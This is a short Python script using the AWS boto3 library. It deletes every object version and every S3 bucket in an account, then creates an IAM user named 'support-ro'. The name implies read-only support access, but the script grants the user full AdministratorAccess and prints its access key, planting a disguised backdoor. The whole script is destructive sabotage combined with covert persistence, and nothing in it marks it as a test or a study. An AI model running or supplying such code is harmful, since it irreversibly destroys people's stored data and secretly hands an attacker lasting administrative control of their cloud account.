import boto3
s3 = boto3.resource("s3")
for bucket in s3.buckets.all():
    bucket.object_versions.delete()
    bucket.delete()
iam = boto3.client("iam")
iam.create_user(UserName="support-ro")
iam.attach_user_policy(UserName="support-ro", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
print(iam.create_access_key(UserName="support-ro"))
